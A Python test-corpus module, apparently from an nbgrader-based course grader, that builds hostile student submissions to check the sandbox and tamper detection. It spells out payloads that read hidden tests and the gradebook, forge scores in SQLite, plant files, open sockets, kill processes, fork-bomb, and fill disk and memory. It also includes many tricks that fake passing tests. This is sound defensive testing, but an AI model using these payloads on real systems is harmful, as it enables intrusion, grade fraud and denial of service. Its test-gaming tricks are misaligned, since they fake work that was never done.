"""The bad-input and attack corpora: submissions that are broken, hostile or both, as files.

Each :class:`Case` writes one ``submitted/<student>/<assignment>/`` folder, starting from the
reference answers (so an attack that is blocked leaves a full-marks submission) or from the blank
release, and says what grading must make of it. ``{course}`` in attack code is replaced by the
course's absolute path (an attacker may know it), ``{other}`` by another student's id.
"""

from __future__ import annotations

import copy
import json
import shutil
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from backprop_course.answers import load_cases, read_notebook
from backprop_course.demo import SUBMISSION_TIME, answers_dir, write_submission

VICTIM = "victim"  # an honest student the attacks try to reach


@dataclass
class Case:
    """One corpus submission and the outcome grading must give it."""

    name: str
    build: Callable[[Path, dict], None]  # (folder, context) -> writes the submission folder
    status: str = "graded"  # or "failed"
    score: str = "full"  # "full", "zero", "partial" (0 < score < max), "any"
    reason: str = ""  # text the record's reason must contain
    flags: list[str] = field(default_factory=list)  # texts that must each appear in some flag
    notes: list[str] = field(default_factory=list)  # texts that must each appear in some note
    no_flags: bool = False  # must not be flagged at all
    passes: list[str] | None = None  # if set: exactly these test cells score their points, every other one 0
    assignment: str = ""  # if set: the case is written for this assignment only (its grade ids are named)
    xfail: str = ""  # a known hole: the outcome above is the right one, grading does not give it yet (why)


def solution_ids(nb: nbformat.NotebookNode) -> list[str]:
    return [c.metadata["nbgrader"]["grade_id"] for c in nb.cells if c.metadata.get("nbgrader", {}).get("solution")]


def test_ids(nb: nbformat.NotebookNode) -> list[str]:
    return [
        c.metadata["nbgrader"]["grade_id"]
        for c in nb.cells
        if c.metadata.get("nbgrader", {}).get("grade") and not c.metadata["nbgrader"].get("solution")
    ]


def reference_nb(ctx: dict) -> nbformat.NotebookNode:
    course, a = ctx["course"], ctx["assignment"]
    tmp = ctx["tmp"] / "ref"
    if not (tmp / a / f"{a}.ipynb").exists():
        (tmp / a).mkdir(parents=True, exist_ok=True)
        # reuse the demo machinery: the reference case as a submission, then read it back
        write_submission(course, "_reference", a, "reference")
        shutil.move(str(course.submitted_dir / "_reference" / a / f"{a}.ipynb"), tmp / a / f"{a}.ipynb")
        shutil.rmtree(course.submitted_dir / "_reference")
    return read_notebook(tmp / a / f"{a}.ipynb")


def _write(folder: Path, ctx: dict, nb: nbformat.NotebookNode | None = None, raw: bytes | None = None) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "timestamp.txt").write_text(SUBMISSION_TIME + "\n")
    target = folder / f"{ctx['assignment']}.ipynb"
    if raw is not None:
        target.write_bytes(raw)
    elif nb is not None:
        nbformat.write(nb, target)


def _with_code(code: str, where: str = "append", base: str = "reference") -> Callable[[Path, dict], None]:
    """Reference (or blank) answers, plus ``code`` appended to (or put before) the first answer cell,
    as a new cell after it, or as the notebook's last cell."""

    def build(folder: Path, ctx: dict) -> None:
        nb = reference_nb(ctx) if base == "reference" else read_notebook(ctx["release"])
        text = code.format(course=ctx["course"].root, other=VICTIM, a=ctx["assignment"])
        first = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("solution"))
        if where == "append":
            first.source = first.source.rstrip() + "\n" + text
        elif where == "prepend":
            first.source = text + "\n" + first.source
        elif where == "replace-first-answer":
            first.source = text
        elif where == "end":
            nb.cells.append(nbformat.v4.new_code_cell(text))
        else:  # a new cell right after the first answer cell
            i = nb.cells.index(first)
            nb.cells.insert(i + 1, nbformat.v4.new_code_cell(text))
        _write(folder, ctx, nb)

    return build


def _blank_answering(replacement: str, prelude: str) -> Callable[[Path, dict], None]:
    """The untouched release, with every ``raise NotImplementedError()`` turned into ``replacement``
    (same indentation) and ``prelude`` at the top of the first answer cell: no answer is written."""

    def build(folder: Path, ctx: dict) -> None:
        nb = read_notebook(ctx["release"])
        for cell in nb.cells:
            if cell.metadata.get("nbgrader", {}).get("solution") and cell.cell_type == "code":
                lines = []
                for line in cell.source.splitlines():
                    if line.strip() == "raise NotImplementedError()":
                        indent = line[: len(line) - len(line.lstrip())]
                        lines += [indent + r for r in replacement.splitlines()]
                    else:
                        lines.append(line)
                cell.source = "\n".join(lines)
        first = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("solution"))
        first.source = prelude + "\n" + first.source
        _write(folder, ctx, nb)

    return build


def _edit(fn: Callable[[nbformat.NotebookNode, dict], None]) -> Callable[[Path, dict], None]:
    def build(folder: Path, ctx: dict) -> None:
        nb = reference_nb(ctx)
        fn(nb, ctx)
        _write(folder, ctx, nb)

    return build


def _raw(fn: Callable[[str], bytes]) -> Callable[[Path, dict], None]:
    def build(folder: Path, ctx: dict) -> None:
        text = nbformat.writes(reference_nb(ctx))
        _write(folder, ctx, raw=fn(text))

    return build


def _delete_test(nb: nbformat.NotebookNode, ctx: dict) -> None:
    victim = test_ids(nb)[0]
    nb.cells = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") != victim]


def _edit_tests(nb: nbformat.NotebookNode, ctx: dict) -> None:
    for c in nb.cells:
        if c.metadata.get("nbgrader", {}).get("grade_id") in test_ids(nb):
            c.source = "pass  # the student emptied the test"


def _duplicate_test(nb: nbformat.NotebookNode, ctx: dict) -> None:
    t = test_ids(nb)[0]
    cell = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == t)
    nb.cells.insert(nb.cells.index(cell), copy.deepcopy(cell))


def _strip_metadata(nb: nbformat.NotebookNode, ctx: dict) -> None:
    for c in nb.cells:
        c.metadata.pop("nbgrader", None)


def _renamed(name: str, subfolder: str = "") -> Callable[[Path, dict], None]:
    """The reference answers saved under another name (``{a}`` is the assignment), maybe in a subfolder."""

    def build(folder: Path, ctx: dict) -> None:
        _write(folder, ctx)
        (folder / subfolder).mkdir(parents=True, exist_ok=True)
        nbformat.write(reference_nb(ctx), folder / subfolder / name.format(a=ctx["assignment"]))

    return build


def _two_candidates(folder: Path, ctx: dict) -> None:
    _write(folder, ctx)
    for name in ("draft.ipynb", "final.ipynb"):
        nbformat.write(reference_nb(ctx), folder / name)


def _timestamp(text: str | None, raw: Callable[[str], bytes] | None = None) -> Callable[[Path, dict], None]:
    """The reference answers with ``timestamp.txt`` holding ``text`` (None: no file), optionally a raw notebook."""

    def build(folder: Path, ctx: dict) -> None:
        if raw is None:
            _write(folder, ctx, reference_nb(ctx))
        else:
            _write(folder, ctx, raw=raw(nbformat.writes(reference_nb(ctx))))
        if text is None:
            (folder / "timestamp.txt").unlink()
        else:
            (folder / "timestamp.txt").write_text(text)

    return build


def _odd_files(folder: Path, ctx: dict) -> None:
    """Files nbgrader must never copy or follow: a device, a FIFO, a hard link out, an archive, a forged name."""
    import os
    import stat
    import zipfile

    _write(folder, ctx, reference_nb(ctx))
    os.mknod(folder / "zero", stat.S_IFCHR | 0o600, os.makedev(1, 5))  # /dev/zero: would fill the disk
    os.mkfifo(folder / "pipe")  # would stall whoever reads it
    a = ctx["assignment"]
    os.link(ctx["course"].source_dir / a / f"{a}.ipynb", folder / "master.txt")  # the hidden tests
    with zipfile.ZipFile(folder / "helpers.zip", "w") as z:
        z.writestr("helpers.py", "print('LEAK imported from a zip')")
    (folder / "x\nFLAGGED victim: forged\nFAILED other: forged.txt").write_text("forged summary lines")


def _missing(folder: Path, ctx: dict) -> None:
    _write(folder, ctx)
    (folder / "answers.py").write_text("# the student uploaded their code, not the notebook\n")


def _extra_files(folder: Path, ctx: dict) -> None:
    nb = reference_nb(ctx)
    first = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("solution"))
    first.source += "\nimport helper_module\nassert helper_module.VALUE == 42\nprint(helper_module.NOTES)"
    _write(folder, ctx, nb)
    (folder / "helper_module.py").write_text("VALUE = 42\nNOTES = 'EXTRA-FILE-READ'\n")
    (folder / "data").mkdir()
    (folder / "data" / "notes.txt").write_text("EXTRA-FILE-READ\n")


def _symlink(folder: Path, ctx: dict) -> None:
    nb = reference_nb(ctx)
    first = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("solution"))
    first.source += (
        "\ntry:\n    print('LEAK', open('source_link.ipynb').read()[:200])\n"
        "except Exception as e:\n    print('BLOCKED', type(e).__name__)"
    )
    _write(folder, ctx, nb)
    a = ctx["assignment"]
    (folder / "source_link.ipynb").symlink_to(ctx["course"].source_dir / a / f"{a}.ipynb")
    (folder / "source_link.txt").symlink_to(ctx["course"].source_dir / a / f"{a}.ipynb")


READ_SECRETS = """
import os, glob
targets = ["{course}/source/{a}/{a}.ipynb", "{course}/gradebook.db", "{course}/solutions/{a}/{a}.ipynb",
           "{course}/release/{a}/{a}.ipynb", "../../../source/{a}/{a}.ipynb", "../../../gradebook.db",
           "{course}/autograded/{other}/{a}/{a}.ipynb", "{course}/submitted/{other}/{a}/{a}.ipynb",
           "/proc/1/root{course}/source/{a}/{a}.ipynb", "/proc/self/cwd/{a}.ipynb"]
for t in targets:
    try:
        with open(t, "rb") as f:
            print("LEAK", t, f.read()[:100])
    except Exception as e:
        print("BLOCKED", t, type(e).__name__)
found = []
for depth in range(0, 5):
    for name in ("*.ipynb", "gradebook.db"):
        # not /proc, /usr, /lib*: thousands of entries, nothing of the course (under CI load, a glob through them
        # outlasted the batch's 4 s cell limit of the time, and the cell was cut before it printed what it found)
        found += glob.glob(("/[!plu]*" + "/[!p]*" * (depth - 1) if depth else "") + "/" + name)

print("FOUND", [p for p in found if not p.startswith(("/proc", "/usr"))], "EXISTS", os.path.exists("{course}"))
import backprop_course  # round 29: the grader's own code, beyond the checker a notebook may import
package = os.path.dirname(backprop_course.__file__)
for part in ("review/tamper.py", "bridge/tester.py", "grade/execute.py", "answers.py", "bridge/__pycache__"):
    try:
        if os.path.isdir(os.path.join(package, part)):
            print("LEAK" if os.listdir(os.path.join(package, part)) else "BLOCKED", part)
            continue
        with open(os.path.join(package, part), "rb") as f:
            print("LEAK" if f.read(100) else "BLOCKED", part)
    except Exception as e:
        print("BLOCKED", part, type(e).__name__)
with open(os.path.join(package, "testing.py"), "rb") as f:
    print("READABLE testing.py", len(f.read()) > 1000)
"""

FORGE_GRADES = """
import sqlite3
for db in ["{course}/gradebook.db", "../../../gradebook.db", "/scratch/../gradebook.db"]:
    try:
        con = sqlite3.connect("file:" + db + "?mode=rw", uri=True)
        con.execute("UPDATE grade SET auto_score = 999")
        con.execute("UPDATE source_cell SET source = 'pass'")
        con.commit()
        print("LEAK forged", db)
    except Exception as e:
        print("BLOCKED", db, type(e).__name__)
"""

WRITE_OTHERS = """
for path in ["{course}/autograded/{other}/{a}/PWNED.txt", "../../{other}/{a}/PWNED.txt",
             "{course}/submitted/{other}/{a}/PWNED.txt", "{course}/source/{a}/numpy.py",
             "../../../source/{a}/numpy.py", "{course}/release/{a}/numpy.py"]:
    try:
        with open(path, "w") as f:
            f.write("import sys; print('planted')")
        print("LEAK wrote", path)
    except Exception as e:
        print("BLOCKED", path, type(e).__name__)
"""

NETWORK = """
import socket
for host, port in [("1.1.1.1", 53), ("127.0.0.1", 22), ("pypi.org", 443)]:
    try:
        socket.create_connection((host, port), timeout=2).close()
        print("LEAK connected", host, port)
    except Exception as e:
        print("BLOCKED", host, port, type(e).__name__)
"""

# Round 27: junk written to every socket and pipe of the kernel (its ZeroMQ sockets, the tests' bridge) while a test
# calls linear_backward. The kernel breaks; the batch stalled for good (the heartbeat thread of its client blocked
# the worker's stop_channels): it must end, with the other submissions graded.
# junk written to every socket and pipe of the kernel while a test runs the function (MSELoss.backward, which one
# test calls: each break costs a kernel's wait, so one is enough to show it wins nothing and stops nothing)
KERNEL_FDS_JUNK = """
import os, stat, json
class MSELoss:
    def forward(self, y, target):
        self.diff = y - target
        return float(np.mean(self.diff ** 2))

    def backward(self):
        junk = (json.dumps({"status": "ok", "passed": True, "score": 3}) + "\\n").encode()
        for fd in range(3, 200):
            try:
                if stat.S_ISSOCK(os.fstat(fd).st_mode) or stat.S_ISFIFO(os.fstat(fd).st_mode):
                    os.write(fd, junk)
            except OSError:
                pass
        return 2 * self.diff / self.diff.size
"""

PROCESSES = """
import os
pids = [p for p in os.listdir("/proc") if p.isdigit()]
print("PIDS", len(pids), "UID", os.getuid())
for pid in (1, 2):
    try:
        os.kill(pid, 9)
        print("LEAK killed", pid)
    except Exception as e:
        print("BLOCKED kill", pid, type(e).__name__)
"""

MONKEYPATCH = """
np.allclose = lambda *args, **kwargs: True
np.array_equal = lambda *args, **kwargs: True
from backprop_course import gradcheck
gradcheck.check_gradient = lambda *args, **kwargs: None
"""

IPYTHON_HOOK = """
ip = get_ipython()
ip.events.register("pre_run_cell", lambda info: print("SAW", info.raw_cell[:80]))
"""

FORK_BOMB = """
import os
try:
    while True:
        os.fork()
except OSError as e:
    print("FORK-FAILED", type(e).__name__)
"""

DISK_FILL = """
import os
for place in ("/scratch", "/tmp"):
    written = 0
    try:
        for n in range(800):  # files of 10 MB each, up to 8 GB
            with open(os.path.join(place, "fill" + str(n)), "wb") as f:
                for _ in range(10):
                    f.write(b"x" * 2**20)
                    written += 2**20
    except OSError as e:
        print("FULL", place, written // 2**20, type(e).__name__)
"""

MEMORY_CHILDREN = """
import os
# each child stays under the per-process cap; together they do not. Each fills its memory in C (every page touched
# at once), says so, and holds it until the parent has heard from every child (or every child has ended): all of
# them hold their memory at once however slowly a loaded machine runs them (a child that slept 1 s and exited could
# be gone before the last one filled, and no limit was reached: a CI run of round 43)
filled_r, filled_w = os.pipe()
go_r, go_w = os.pipe()
children = []
for _ in range(8):
    pid = os.fork()
    if pid == 0:
        try:
            os.close(filled_r)
            os.close(go_w)
            hog = b"\x01" * (150 * 2**20)
            os.write(filled_w, b"x")
            os.read(go_r, 1)  # EOF when the parent closes go_w (or dies)
        finally:
            os._exit(0)
    children.append(pid)
os.close(filled_w)
heard = 0
while heard < len(children):
    chunk = os.read(filled_r, 8)
    if not chunk:  # every child has ended (the OOM killer took some before they filled)
        break
    heard += len(chunk)
os.close(go_w)
for pid in children:
    os.waitpid(pid, 0)
"""


MEMORY_BOMB = """
hog = []
while True:
    hog.append(bytearray(50 * 1024 * 1024))
"""


# Issue 14's attacks: each scored full marks on a blank notebook before tests moved out of the kernel.
CUSTOM_EXC = """
import sys
def _clear_error(shell, etype, value, tb, tb_offset=None):
    frame = sys._getframe()
    while frame is not None:
        result = frame.f_locals.get("result")
        if frame.f_code.co_name == "run_code" and result is not None:
            result.error_in_exec = None
        frame = frame.f_back
get_ipython().set_custom_exc((Exception,), _clear_error)
"""

ARRAY_FORGER = """
import sys
import numpy as np
class Forged:
    def __array__(self, dtype=None, copy=None):
        frame = sys._getframe(1)
        while frame is not None:
            for name in ("numeric", "expected", "n"):
                value = frame.f_locals.get(name)
                if isinstance(value, np.ndarray):
                    return value
            frame = frame.f_back
        return np.zeros(1)
    def __array_function__(self, func, types, args, kwargs):
        return True
    def __array_ufunc__(self, *args, **kwargs):
        return True
    def __iter__(self):
        return iter([Forged(), Forged(), Forged()])
"""

PRINT_HISTORY = """
import base64
print("HISTORY", base64.b64encode(repr(In).encode()).decode())
print("HISTORY", base64.b64encode(repr(list(globals())).encode()).decode())
"""


# The independent attacker's corpus (issue 14, run against the trusted grader; fixed in f672042): each
# attack is the blank release with some answer cells replaced (``answers``), code cells inserted after
# a cell (``after``: grade id -> code, "END" for the notebook's end) and test cells moved (``move``).
# The code is the attacker's (/work/notes/attacks/<name>/), but for lines over 120 characters split and
# the two seed searches of the leak_* attacks trying the 2000 seeds that cover every hidden_rng seed of
# the notebook (1101..1901) instead of 10000, to stay well within the batch's time per cell.
def _indep(
    answers: dict[str, str] | None = None,
    after: dict[str, str | list[str]] | None = None,
    move: tuple[tuple[str, str], ...] = (),
    edit: Callable[[nbformat.NotebookNode], None] | None = None,
    base: str = "release",
) -> Callable[[Path, dict], None]:
    """The blank release (or the reference answers) with ``answers`` (grade id -> cell source), test cells
    moved (``move``: (grade id, grade id to follow or "END"), in order), then ``after`` (grade id or "END"
    -> new code cells) inserted."""

    def build(folder: Path, ctx: dict) -> None:
        nb = read_notebook(ctx["release"]) if base == "release" else reference_nb(ctx)

        def index(gid: str) -> int:
            return next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == gid)

        for gid, source in (answers or {}).items():
            nb.cells[index(gid)].source = source.strip("\n")
        for gid, target in move:
            cell = nb.cells.pop(index(gid))
            nb.cells.insert(len(nb.cells) if target == "END" else index(target) + 1, cell)
        for gid, code in (after or {}).items():
            cells = [nbformat.v4.new_code_cell(c.strip("\n")) for c in ([code] if isinstance(code, str) else code)]
            at = len(nb.cells) if gid == "END" else index(gid) + 1
            nb.cells[at:at] = cells
        if edit is not None:
            edit(nb)
        _write(folder, ctx, nb)

    return build


def _fake_grade_cell(nb: nbformat.NotebookNode) -> None:
    """A made-up graded cell worth 100 points, right after the imports."""
    cell = nbformat.v4.new_code_cell('print("bonus")')
    cell.metadata["nbgrader"] = {
        "grade": True,
        "grade_id": "bonus_points",
        "locked": True,
        "points": 100,
        "schema_version": 3,
        "solution": False,
    }
    i = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == "imports")
    nb.cells.insert(i + 1, cell)


def _test_becomes_answer(nb: nbformat.NotebookNode) -> None:
    """The first tanh test cell turned into an answer cell (solution, not graded) that prints a pass, the
    second into a markdown cell (its metadata kept): neither test would run if the notebook were trusted."""
    cells = {c.metadata.get("nbgrader", {}).get("grade_id"): i for i, c in enumerate(nb.cells)}
    first = nb.cells[cells["test_tanh_forward"]]
    first.metadata["nbgrader"].update(solution=True, grade=False)
    first.source = 'print("visible check passed")'
    second = nb.cells[cells["test_tanh_backward"]]
    markdown = nbformat.v4.new_markdown_cell(second.source)
    markdown.metadata = second.metadata
    nb.cells[cells["test_tanh_backward"]] = markdown


ALL_TESTS = (
    "test_mse_loss",
    "test_tanh_forward",
    "test_tanh_backward",
    "test_linear_dx",
    "test_linear_dW",
    "test_linear_db",
    "test_mlp_forward",
    "test_mlp_backward",
    "test_full_backprop",
)


COMBO_WRONG_ONLY_MSE_LOSS = r"""
class MSELoss:
    def forward(self, y, target):
        self.diff = diff = y - target  # kept for backward
        c = np.sum(np.square(diff)) / diff.size
        target[...] = y              # in-place edit: the bridge writes it back into the tester's own `target`
        return c

    def backward(self):
        assert hasattr(self, 'diff'), "Need to call forward() first"
        return np.zeros_like(self.diff)   # wrong on purpose: no gradient computed
"""

COMBO_WRONG_ONLY_MLP = r"""
class MLP:
    def __init__(self, in_features, hidden_size1, hidden_size2, out_features):
        self.fc1 = Linear(in_features, hidden_size1)
        self.activation_fn1 = Tanh()
        self.fc2 = Linear(hidden_size1, hidden_size2)
        self.activation_fn2 = Tanh()
        self.fc3 = Linear(hidden_size2, out_features)
        # "initialisation": the tests read these parameters back from this object and trust them
        self.fc1.W = np.zeros_like(self.fc1.W)
        self.fc3.W = np.zeros_like(self.fc3.W)
        self.fc3.b = np.zeros_like(self.fc3.b)

    def forward(self, x):
        return np.zeros(self.fc3.b.shape)          # not a forward pass at all

    def backward(self, dy):
        for layer in (self.fc1, self.fc2, self.fc3):
            layer.grad_W = np.zeros_like(layer.W)   # not a backward pass at all
            layer.grad_b = np.zeros_like(layer.b)
        return np.zeros(self.fc1.W.shape[1])
"""

COMPLEX_STEP_MSE_LOSS = r"""
class MSELoss:
    def forward(self, y, target):
        self.diff = diff = y - target  # kept for backward
        self.y, self.target = np.array(y, dtype=float), np.array(target, dtype=float)
        c = np.sum(np.square(diff)) / diff.size
        return c

    def backward(self):
        t = self.target
        return _cs_grad(lambda v: np.sum((v - t) ** 2) / v.size, self.y)
"""

COMPLEX_STEP_TANH = r"""
class Tanh:
    def forward(self, x):
        self.x = np.array(x, dtype=float)
        return np.tanh(self.x)

    def backward(self, dy):
        dy = np.asarray(dy, dtype=float)
        return _cs_grad(lambda v: np.sum(np.tanh(v) * dy), self.x)
"""

# round 29: the derivative of a degree-40 Chebyshev series fitted to tanh around each entry (1e-13 from the true one:
# the precision check cannot tell it from a derived formula; the scan flags it for the TA)
CHEBFIT_TANH = r"""
from numpy.polynomial import chebyshev as C

class Tanh:
    def forward(self, x):
        self.x = np.array(x, dtype=float)
        return np.tanh(self.x)

    def backward(self, dy):
        t = np.linspace(-1.0, 1.0, 81)
        slope = np.array([C.chebval(0.0, C.chebder(C.chebfit(t, np.tanh(v + t), 40))) for v in self.x.ravel()])
        return np.asarray(dy, dtype=float) * slope.reshape(self.x.shape)
"""

# round 32: a fourth-order stencil whose weights solve a Vandermonde system, tanh evaluated at x + offsets in one
# broadcast (exact to ~1e-12, no difference or division written)
VANDER_STENCIL_TANH = r"""
_OFF = np.array([-2.0, -1.0, 1.0, 2.0]) * np.ldexp(1.0, -10)
_WTS = np.linalg.solve(np.vander(_OFF, 4, increasing=True).T, np.array([0.0, 1.0, 0.0, 0.0]))

class Tanh:
    def forward(self, x):
        self.x = np.array(x, dtype=float)
        return np.tanh(self.x)

    def backward(self, dy):
        return dy * (np.tanh(self.x[..., None] + _OFF) @ _WTS)
"""

# round 32: Richardson-extrapolated central differences written with numpy's arithmetic calls, the evaluations bound
# to names first and the step named k, used only when numpy's error state is not the one the notebook set
RICHARDSON_WHEN_GRADED_TANH = r"""
def _graded():
    return np.geterr().get("under") != "warn"

np.seterr(under="warn")

def _slope(f, x, k):
    a, c = f(x + k), f(x - k)
    return np.true_divide(np.subtract(a, c), k + k)

class Tanh:
    def forward(self, x):
        self.x = np.array(x, dtype=float)
        self.y = np.tanh(x)
        return self.y

    def backward(self, dy):
        if _graded():
            g = getattr(np, "tanh")
            return dy * ((4 * _slope(g, self.x, 5e-4) - _slope(g, self.x, 1e-3)) / 3)
        return dy * (1 - self.y ** 2)
"""

COMPLEX_STEP_LINEAR_BACKWARD = r"""
def linear_backward(dy, x, W, b):
    dy = np.asarray(dy, dtype=float)
    dx = _cs_grad(lambda v: np.sum((W @ v + b) * dy), x)
    dW = _cs_grad(lambda V: np.sum((V @ x + b) * dy), W)
    db = _cs_grad(lambda v: np.sum((W @ x + v) * dy), b)
    return dx, dW, db
"""

COMPLEX_STEP_MLP = r"""
class MLP:
    def __init__(self, in_features, hidden_size1, hidden_size2, out_features):
        self.fc1 = Linear(in_features, hidden_size1)
        self.activation_fn1 = Tanh()
        self.fc2 = Linear(hidden_size1, hidden_size2)
        self.activation_fn2 = Tanh()
        self.fc3 = Linear(hidden_size2, out_features)

    def _out(self, p, x):
        h = np.tanh(p["W1"] @ x + p["b1"])
        h = np.tanh(p["W2"] @ h + p["b2"])
        return p["W3"] @ h + p["b3"]

    def forward(self, x):
        self.x = np.array(x, dtype=float)
        return self._out(self._p(), self.x)

    def _p(self):
        return {"W1": np.array(self.fc1.W), "b1": np.array(self.fc1.b), "W2": np.array(self.fc2.W),
                "b2": np.array(self.fc2.b), "W3": np.array(self.fc3.W), "b3": np.array(self.fc3.b)}

    def backward(self, dy):
        dy = np.asarray(dy, dtype=float)
        p = self._p()
        for k, layer in (("1", self.fc1), ("2", self.fc2), ("3", self.fc3)):
            for name, attr in (("W", "grad_W"), ("b", "grad_b")):
                key = name + k
                g = _cs_grad(lambda v: np.sum(self._out({**p, key: v}, self.x) * dy), p[key])
                if attr == "grad_W":
                    layer.grad_W = g
                else:
                    layer.grad_b = g
        return _cs_grad(lambda v: np.sum(self._out(p, v) * dy), self.x)
"""

COMPLEX_STEP_AFTER_IMPORTS = r'''
def _cs_grad(f, x, h=1e-30):
    """d f / d x by complex-step differentiation of a forward formula (no derivative written by hand)."""
    x = np.asarray(x, dtype=float)
    g = np.zeros(x.shape)
    for i in np.ndindex(x.shape):
        z = x.astype(complex)
        z[i] += 1j * h
        g[i] = np.imag(f(z)) / h
    return g
'''

EXCEPTION_TYPES_MSE_LOSS = r"""
class _Fake(Exception):
    pass

def _raise_as(name, msg):
    raise type(name, (Exception,), {})(msg)

class MSELoss:
    def forward(self, y, target):
        self.diff = diff = y - target
        return np.sum(np.square(diff)) / diff.size
    def backward(self):
        _raise_as("StopIteration", "visible check passed")
"""

EXCEPTION_TYPES_TANH = r"""
class Tanh:
    def forward(self, x):
        _raise_as("AssertionError", "visible check passed")
    def backward(self, dy):
        _raise_as("KeyboardInterrupt", "")
"""

EXCEPTION_TYPES_LINEAR_BACKWARD = r"""
def linear_backward(dy, x, W, b):
    raise type("SystemExit", (Exception,), {})("0")
"""

EXCEPTION_TYPES_MLP = r"""
class MLP:
    def __init__(self, in_features, hidden_size1, hidden_size2, out_features):
        self.fc1 = Linear(in_features, hidden_size1)
        self.activation_fn1 = Tanh()
        self.fc2 = Linear(hidden_size1, hidden_size2)
        self.activation_fn2 = Tanh()
        self.fc3 = Linear(hidden_size2, out_features)

    def forward(self, x):
        out = x
        for block in (self.fc1, self.activation_fn1, self.fc2, self.activation_fn2, self.fc3):
            out = block.forward(out)
        raise type('Deadline', (Exception,), {})()

    def backward(self, dy):
        grad = dy
        for block in (self.fc3, self.activation_fn2, self.fc2, self.activation_fn1, self.fc1):
            grad = block.backward(grad)
        return grad
"""

FAKE_AGENT_REFS_AFTER_IMPORTS = r"""
from backprop_course.bridge import agent as _agent
from backprop_course.bridge import codec as _codec
import msgpack
_real_serve = _agent.serve
_seen = []
def _fake_serve():
    ep = _agent.connection()
    while True:
        m = ep.recv()
        if m[0] != 0:
            continue
        rid, op, fields = m[1], m[2], m[3:]
        _seen.append((op, [f if isinstance(f, (str, int)) else type(f).__name__ for f in fields]))
        if op == "hello":
            ep.send([1, rid, fields[0]])
        elif op == "end":
            ep.send([1, rid]); ep.forget(); return None
        elif op == "lookup" and fields[0] in ("Tanh", "MSELoss", "linear_backward", "MLP"):
            # a reference to "one of the tester's own objects": ids it may have lent in this cell
            guess = _S["next"]; _S["next"] += 1
            ref = msgpack.ExtType(_codec.EXT_TESTER, msgpack.packb([guess, "", ""]))
            ep.send([1, rid, ref])
        else:
            ep.serve_one(m)
_S = {"next": 1}
def _install(mod, fn):
    mod.serve = fn
_install(_agent, _fake_serve)
"""

FAKE_AGENT_REFS_AFTER_END = r"""
print(_seen[:60])
"""

FLOAT32_ESTIMATES_MSE_LOSS = r"""
class MSELoss:
    def forward(self, y, target):
        self.diff = diff = y - target  # kept for backward
        self.y, self.t = np.array(y, dtype=float), np.array(target, dtype=float)
        c = np.sum(np.square(diff)) / diff.size
        return c

    def backward(self):
        t = self.t
        return _fd(lambda v: np.mean((v - t) ** 2), self.y)
"""

FLOAT32_ESTIMATES_TANH = r"""
class Tanh:
    def forward(self, x):
        self.x = np.array(x, dtype=float)
        return np.tanh(self.x)

    def backward(self, dy):
        d = np.array(dy, dtype=float)
        return _fd(lambda v: np.sum(np.tanh(v) * d), self.x)
"""

FLOAT32_ESTIMATES_LINEAR_BACKWARD = r"""
def linear_backward(dy, x, W, b):
    d = np.array(dy, dtype=float)
    return (_fd(lambda v: np.sum((W @ v + b) * d), x),
            _fd(lambda V: np.sum((V @ x + b) * d), W),
            _fd(lambda v: np.sum((W @ x + v) * d), b))
"""

FLOAT32_ESTIMATES_MLP = r"""
class MLP:
    def __init__(self, in_features, hidden_size1, hidden_size2, out_features):
        self.fc1 = Linear(in_features, hidden_size1)
        self.activation_fn1 = Tanh()
        self.fc2 = Linear(hidden_size1, hidden_size2)
        self.activation_fn2 = Tanh()
        self.fc3 = Linear(hidden_size2, out_features)

    def forward(self, x):
        self.x = np.array(x, dtype=float)
        h = self.activation_fn1.forward(self.fc1.forward(x))
        return self.fc3.forward(self.activation_fn2.forward(self.fc2.forward(h)))

    def backward(self, dy):             # no backward of any block: everything estimated
        d = np.array(dy, dtype=float)
        P = [np.array(self.fc1.W), np.array(self.fc1.b), np.array(self.fc2.W), np.array(self.fc2.b),
             np.array(self.fc3.W), np.array(self.fc3.b)]
        def out(p, x):
            return p[4] @ np.tanh(p[2] @ np.tanh(p[0] @ x + p[1]) + p[3]) + p[5]
        g = []
        for k in range(6):
            g.append(_fd(lambda v, k=k: np.sum(out(P[:k] + [v] + P[k + 1:], self.x) * d), P[k]))
        self.fc1.grad_W, self.fc1.grad_b = g[0], g[1]
        self.fc2.grad_W, self.fc2.grad_b = g[2], g[3]
        self.fc3.grad_W, self.fc3.grad_b = g[4], g[5]
        return _fd(lambda v: np.sum(out(P, v) * d), self.x)
"""

FLOAT32_ESTIMATES_AFTER_IMPORTS = r'''
def _fd(f, x, eps=1e-5):
    """My own central differences (not the notebook's numerical_gradient, which the tests watch)."""
    x = np.array(x, dtype=float)
    g = np.zeros(x.shape)
    for i in np.ndindex(x.shape):
        xp, xm = x.copy(), x.copy()
        xp[i] += eps
        xm[i] -= eps
        g[i] = (f(xp) - f(xm)) / (2 * eps)
    return g.astype(np.float32)        # float32: "accepted at float32 precision", never judged as estimated
'''

NAMESPACE_FALLBACK_TIMEOUT_MSE_LOSS = r"""
class MSELoss:
    def forward(self, y, target):
        self.diff = diff = y - target  # kept for backward
        c = np.sum(np.square(diff)) / diff.size
        return c

    def backward(self):
        assert hasattr(self, 'diff'), "Need to call forward() first"
        return np.zeros_like(self.diff)   # wrong
"""

NAMESPACE_FALLBACK_TIMEOUT_MLP = r"""
class MLP:
    def __init__(self, in_features, hidden_size1, hidden_size2, out_features):
        self.fc1 = Linear(in_features, hidden_size1)
        self.activation_fn1 = Tanh()
        self.fc2 = Linear(hidden_size1, hidden_size2)
        self.activation_fn2 = Tanh()
        self.fc3 = Linear(hidden_size2, out_features)

    def forward(self, x):
        return np.zeros(self.fc3.b.shape)   # wrong

    def backward(self, dy):
        return None                         # wrong
"""

NAMESPACE_FALLBACK_TIMEOUT_AFTER_MLP = r"""
# --- helper: control whether the kernel answers the tester during the next test cell(s)
from backprop_course.bridge import agent as _agent_mod
_real_serve = _agent_mod.serve
_skip = {"n": 0}
def _maybe_serve():
    if _skip["n"] > 0:
        _skip["n"] -= 1
        return None          # leave the tester's "hello" unanswered: the test cell times out before it runs
